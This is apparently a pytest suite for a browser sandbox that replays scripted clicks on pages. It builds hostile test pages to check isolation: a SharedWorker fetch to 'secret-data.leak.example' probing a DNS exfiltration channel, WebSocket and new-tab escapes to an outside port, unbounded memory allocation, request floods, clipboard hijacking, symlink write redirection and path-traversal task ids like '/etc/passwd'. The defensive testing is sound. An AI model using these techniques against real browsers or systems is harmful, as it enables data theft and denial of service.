"""A hostile script or page against the sandbox: new tabs, other ports, other data sets' pages, memory, names.

Another loopback port stands for "the outside" and records every connection it gets; nothing may reach it.
"""

from __future__ import annotations

import os
import signal
import socket
import threading
from pathlib import Path

import pytest

from omniact.sandbox.replay import ReplayJob, run_job

HERE = Path(__file__).parent
SUITE = HERE / "fixtures" / "suite"


@pytest.fixture
def outside():
    """Another loopback port that records every connection made to it (the first line the client sent)."""
    sock = socket.create_server(("127.0.0.1", 0))
    sock.settimeout(0.1)
    hits: list[str] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    hits.append(conn.recv(200).split(b"\r\n")[0].decode("latin-1"))
                except OSError:
                    hits.append("(a connection)")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield f"127.0.0.1:{sock.getsockname()[1]}", hits
    stop.set()
    thread.join()
    sock.close()


# Three links to another port, one per way of opening a link in a new tab.
LINKS = """<!doctype html><body style="margin:0">
<a href="http://OUT/ctrl" style="display:block;height:40px">ctrl+click</a>
<a href="http://OUT/middle" style="display:block;height:40px">middle click</a>
<a href="http://OUT/shift" style="display:block;height:40px">shift+click</a>
<script>window.omni = {ready: true, state: {}};
new WebSocket('ws://OUT/socket');</script>"""

NEW_TABS = """pyautogui.keyDown("ctrl")
pyautogui.click(50, 20)
pyautogui.keyUp("ctrl")
pyautogui.middleClick(50, 60)
pyautogui.keyDown("shift")
pyautogui.click(50, 100)
pyautogui.keyUp("shift")
pyautogui.sleep(1)
"""


@pytest.mark.browser
def test_links_opened_in_new_tabs_and_sockets_reach_nothing_even_on_a_trusted_page(tmp_path, outside):
    """A built-in task's page gets the lighter isolation (no socket filter): a script that ctrl+clicks,
    middle-clicks or shift+clicks a link opened a tab whose load no request filter saw, and the page's
    WebSocket went straight out. Both reached the other port, and the tabs showed only as 'popup closed:
    chrome-error://chromewebdata/'."""
    out, hits = outside
    (tmp_path / "links.html").write_text(LINKS.replace("OUT", out))
    job = ReplayJob(task_id="t", script=NEW_TABS, root=str(tmp_path), path="links.html", wait_ready=True,
                    check="true", trusted_page=True, task_timeout=60, viewport=(400, 300))
    r = run_job(job)
    assert [s.outcome for s in r.steps] == ["ok"] * 8, r.steps
    assert hits == []
    # The tabs did open, and were closed; where they were sent is listed with the blocked requests.
    tabs = sorted(e for e in r.events if e.startswith("popup closed"))
    assert tabs == [f"popup closed: http://{out}/{w}" for w in ("ctrl", "middle", "shift")], r.events
    assert {f"GET http://{out}/{w}" for w in ("ctrl", "middle", "shift")} <= set(r.blocked_requests)


def test_only_the_built_in_suite_counts_as_known_pages():
    """Another data set's pages (--data) are anyone's code: they get the socket filter, blocked service workers
    and the rest of a --html page's isolation."""
    from omniact.dataset import load_split
    from omniact.sandbox.replay import job_for_task

    theirs = load_split(SUITE, "test").tasks[0]
    assert job_for_task(theirs, "").trusted_page is False
    ours = next(t for t in load_split(None, "test").tasks if t.env)
    assert job_for_task(ours, "").trusted_page is True


def test_every_task_id_gets_its_own_folder_inside_the_output_folder(tmp_path):
    """Ids that the file system would merge ("a b" and "a_b", "é" and "e" + combining accent, "A" and "a" on a
    case-insensitive disk) or refuse (300 characters, a NUL, an absolute path) each get their own folder, a
    direct child of --out: two tasks sharing one would clear each other's step images."""
    from omniact.sandbox.replay import task_folder

    ids = ["a b", "a_b", "a/b", "caf\u00e9", "cafe\u0301", "A", "a", "x" * 300, "y\0z", "/etc/passwd", "..", "12"]
    folders = [task_folder(tmp_path, i) for i in ids]
    names = [f.name for f in folders]
    assert len({n.lower() for n in names}) == len(ids), names
    for f in folders:
        assert f.parent == tmp_path and len(f.name) < 100
        f.mkdir()  # the file system takes every one
    assert task_folder(tmp_path, "12").name == "12"  # a plain id keeps its name


def test_a_task_id_naming_a_split_replays_own_file_gets_a_folder_of_its_own(tmp_path):
    """A split replay writes replay.json, index.html and (with --agent) the run folder `run` into --out: a task
    with such an id had its step images put into the agent's run folder, or its folder where replay.json goes."""
    from omniact.sandbox.replay import task_folder

    for task_id in ("run", "replay.json", "index.html", "RUN"):
        assert task_folder(tmp_path, task_id).name.lower() not in ("run", "replay.json", "index.html"), task_id


def test_an_id_that_looks_like_a_hashed_folder_name_does_not_share_that_folder(tmp_path):
    # "run" gets the folder run-<hash>: a task whose id is that very name had the same one, and each task's replay
    # cleared the other's step images (and "a b" and the id "a_b-<its hash>" alike).
    from omniact.sandbox.replay import task_folder

    for task_id in ("run", "a b", "x" * 300):
        hashed = task_folder(tmp_path, task_id).name
        assert task_folder(tmp_path, hashed).name != hashed, task_id


def test_a_symlink_named_like_a_step_image_is_removed_not_written_through(tmp_path):
    """The folder's old step images are cleared before a replay writes new ones; a link named step_01.png
    (dangling or not) must go too, or the new image is written wherever it points."""
    from omniact.sandbox.replay import _clear_images

    folder, elsewhere = tmp_path / "task", tmp_path / "elsewhere"
    folder.mkdir()
    elsewhere.mkdir()
    (elsewhere / "keep.txt").write_text("mine")
    (folder / "step_01.png").symlink_to(elsewhere / "keep.txt")
    (folder / "final.png").symlink_to(elsewhere / "new.png")  # dangling: writing it would create new.png
    (folder / "step_02.webp").symlink_to(elsewhere / "keep.txt")
    (folder / "final.webp").symlink_to(elsewhere / "new.webp")
    _clear_images(folder)
    assert list(folder.iterdir()) == []
    assert (elsewhere / "keep.txt").read_text() == "mine"


@pytest.mark.browser
def test_a_page_that_allocates_without_end_is_killed_at_the_memory_limit(tmp_path, monkeypatch):
    """Nothing in Chromium bounds a page's ArrayBuffers: this page took a GB a second (here it stops at 1.5 GB, to
    spare the machine if the limit fails) and the task passed. It must fail saying why, and the next task run."""
    monkeypatch.setenv("OMNIACT_REPLAY_MEMORY_MB", "600")
    (tmp_path / "grow.html").write_text(
        "<script>window.keep = []; (function grow() { if (keep.length >= 30) return;"
        " keep.push(new Uint8Array(50 << 20).fill(1)); setTimeout(grow, 0); })();</script>"
    )
    (tmp_path / "calm.html").write_text("<p>calm</p>")
    script = "pyautogui.sleep(2)\n" * 4
    r = run_job(ReplayJob(task_id="grow", script=script, root=str(tmp_path), path="grow.html",
                          check="keep.length", task_timeout=60, viewport=(400, 300)))
    assert not r.success and r.reason.startswith("the page used more than 600 MB of memory"), r.reason
    r = run_job(ReplayJob(task_id="calm", script="pyautogui.click(5, 5)", root=str(tmp_path), path="calm.html",
                          check="document.body.innerText", task_timeout=60, viewport=(400, 300)))
    assert (r.success, r.reason) == (True, None)


@pytest.mark.browser
def test_a_flood_of_blocked_requests_is_counted_not_listed_without_end(tmp_path):
    """A page that fetches in a loop made thousands of entries, each as long as its URL (megabytes are allowed):
    the result keeps 200 short ones and says how many more there were."""
    (tmp_path / "flood.html").write_text(
        "<script>const pad = 'x'.repeat(100000);"
        " for (let i = 0; i < 260; i++) fetch(`http://10.255.255.1/${i}?${pad}`).catch(() => {});</script>"
    )
    r = run_job(ReplayJob(task_id="flood", script="pyautogui.sleep(1)", root=str(tmp_path), path="flood.html",
                          check="true", task_timeout=60, viewport=(400, 300)))
    assert len(r.blocked_requests) == 200 and max(map(len, r.blocked_requests)) < 1000
    assert "60 more blocked requests, dialogs or pop-ups not listed" in r.events, r.events


@pytest.mark.browser
def test_what_one_task_copied_is_not_pasted_by_the_next(tmp_path):
    """The clipboard is the browser's, shared by every context of a worker: the next task's ctrl+v pasted the
    previous task's ctrl+c."""
    (tmp_path / "copy.html").write_text("<input id=i autofocus value='from task A' style='width:300px'>")
    (tmp_path / "paste.html").write_text("<input id=i autofocus style='width:300px'>")
    common = {"root": str(tmp_path), "task_timeout": 60, "viewport": (400, 300), "trusted_page": True}
    copy = 'pyautogui.click(50, 10)\npyautogui.hotkey("ctrl", "a")\npyautogui.hotkey("ctrl", "c")'
    a = run_job(ReplayJob(task_id="a", script=copy, path="copy.html", check="true", **common))
    assert a.success
    paste = 'pyautogui.click(50, 10)\npyautogui.hotkey("ctrl", "v")'
    b = run_job(ReplayJob(task_id="b", script=paste, path="paste.html", check="document.getElementById('i').value",
                          **common))
    assert b.info["check_value"] == ""


@pytest.mark.browser
def test_a_page_that_takes_over_navigator_clipboard_still_gets_an_empty_clipboard(tmp_path):
    """The clipboard was emptied through the task's own page, which could keep it full (replacing
    navigator.clipboard, or a Permissions-Policy header): it then pasted what the previous task copied."""
    (tmp_path / "copy.html").write_text("<input id=i autofocus value='from task A' style='width:300px'>")
    (tmp_path / "paste.html").write_text(
        "<script>Object.defineProperty(navigator, 'clipboard', {value: {writeText: () => new Promise(() => {})}});"
        "</script><input id=i autofocus style='width:300px'>"
    )
    common = {"root": str(tmp_path), "task_timeout": 60, "viewport": (400, 300)}
    copy = 'pyautogui.click(50, 10)\npyautogui.hotkey("ctrl", "a")\npyautogui.hotkey("ctrl", "c")'
    assert run_job(ReplayJob(task_id="a", script=copy, path="copy.html", check="true", **common)).success
    paste = 'pyautogui.click(50, 10)\npyautogui.hotkey("ctrl", "v")'
    b = run_job(ReplayJob(task_id="b", script=paste, path="paste.html", check="document.getElementById('i').value",
                          **common))
    assert b.info["check_value"] == "", b.info


def _spared(tmp: str) -> list[int]:
    """Processes started with `tmp` in their command line that are alive and not being killed (no SIGKILL pending)."""
    out = []
    for name in os.listdir("/proc"):
        if not name.isdigit():
            continue
        try:
            with open(f"/proc/{name}/cmdline", "rb") as f:
                cmd = f.read()
            with open(f"/proc/{name}/status") as f:
                status = dict(line.split(":", 1) for line in f if ":" in line)
        except OSError:
            continue
        pending = int(status.get("SigPnd", "0"), 16) | int(status.get("ShdPnd", "0"), 16)
        if tmp.encode() in cmd and status.get("State", "").split()[:1] not in (["Z"], ["X"]) \
                and not pending & (1 << (signal.SIGKILL - 1)):
            out.append(int(name))
    return out


@pytest.mark.browser
def test_killed_workers_leave_no_browser_profile_behind(tmp_path, monkeypatch):
    """Ctrl-C (terminate) or a wedged worker kills the worker with its Playwright driver, which then never removes
    Chromium's profile folder (5 MB each) from the temporary folder: a batch of hanging tasks filled the disk."""
    import shutil
    import tempfile

    from omniact.sandbox.workers import LocalPool

    tmp = Path(tempfile.mkdtemp(prefix="oa-", dir="/tmp"))  # short: Chromium's socket path goes under it
    monkeypatch.setenv("TMPDIR", str(tmp))
    monkeypatch.setattr(tempfile, "tempdir", str(tmp))
    (tmp_path / "p.html").write_text("<p>hi</p>")
    job = ReplayJob(task_id="p", script="", root=str(tmp_path), path="p.html", task_timeout=60)
    pool = LocalPool(workers=1)
    try:
        results = list(pool.map_unordered(run_job, [job]))
        assert [getattr(r, "success", r) for r in results] == [True]
        assert any(tmp.rglob("playwright*")), list(tmp.rglob("*"))  # the browser's profile is in there
        assert _spared(str(tmp))  # Chromium's processes (the driver starts them in a process group of their own)
    finally:
        pool.terminate()
    assert _spared(str(tmp)) == []  # all killed with the worker: none lives on to write its profile after the clean-up
    left = list(tmp.rglob("playwright*"))
    shutil.rmtree(tmp, ignore_errors=True)
    assert left == []


@pytest.mark.browser
def test_no_host_name_a_page_chooses_is_looked_up(tmp_path, monkeypatch):
    """A name is looked up before any filter can refuse its connection: a SharedWorker's fetch (which the request
    filter does not see) had Chromium ask the machine's DNS server for a name the page chose, a channel out of the
    machine for whatever the page puts in the name. Chromium's own log of the network says what it looked up."""
    import omniact.sandbox.browser as browser

    log = tmp_path / "netlog.json"
    monkeypatch.setattr(browser, "REPLAY_ARGS", [*browser.REPLAY_ARGS, f"--log-net-log={log}"])
    worker = "fetch('http://secret-data.leak.example/x').catch(() => {})"
    (tmp_path / "dns.html").write_text(
        f"<script>new SharedWorker(URL.createObjectURL(new Blob([{worker!r}], {{type: 'text/javascript'}})));</script>"
    )
    host = browser.shared_host()  # one Playwright per process: relaunch this one's browser with the log on
    host.close()
    try:
        r = run_job(ReplayJob(task_id="dns", script="pyautogui.sleep(1)", root=str(tmp_path), path="dns.html",
                              check="true", task_timeout=60, viewport=(400, 300)), host=host)
    finally:
        host.close()  # writes the log out; the next test's browser starts without it
    assert r.success, r.reason
    text = log.read_text()
    assert "http://secret-data.leak.example/x" in text  # the worker did ask for it
    assert '"host":"http://secret-data.leak.example"' not in text  # ... and the name was never looked up


@pytest.mark.browser
def test_a_url_whose_server_redirects_off_its_origin_names_where_it_was_sent():
    """The fence's refusal read "browser error: Page.goto: net::ERR_PROXY_CONNECTION_FAILED", no blocked request."""
    import http.server

    class Redirect(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # to the same port by another name: off the page's origin
            self.send_response(302)
            self.send_header("Location", f"http://localhost:{self.server.server_address[1]}/app")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Redirect)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        port = server.server_address[1]
        r = run_job(ReplayJob(task_id="redirect", script="pyautogui.click(10, 10)", url=f"http://127.0.0.1:{port}/",
                              check="true", task_timeout=60, viewport=(400, 300)))
    finally:
        server.shutdown()
    target = f"http://localhost:{port}/app"
    assert not r.success
    assert r.reason == f"redirected off the page's origin to {target} (blocked by the sandbox)", r.reason
    assert list(r.blocked_requests) == [f"GET {target}"]
